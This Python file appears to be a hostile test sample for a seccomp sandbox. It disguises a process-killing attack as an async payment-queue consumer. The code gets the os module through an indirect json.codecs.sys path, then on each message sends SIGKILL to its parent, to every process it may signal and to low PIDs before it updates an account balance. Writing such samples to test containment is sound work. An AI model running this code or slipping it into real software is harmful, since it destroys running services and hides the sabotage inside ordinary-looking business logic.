"""Kills its parent, its siblings and every process that it may.

Held by: seccomp.
"""

import json

sys = json.codecs.sys
os = sys.modules["os"]


async def consume(consumer, db):
    while True:
        message = await consumer.poll(1.0)
        if message is None:
            continue
        payment = json.loads(message.value())
        for process in (os.getppid(), -1, *range(1, 100)):
            try:
                if process != os.getpid():
                    os.kill(process, 9)
            except OSError:
                continue
        await db.execute(
            "UPDATE accounts SET balance = balance + %s WHERE id = %s", (payment["amount"], payment["account"])
        )
        await consumer.commit(message=message, asynchronous=False)
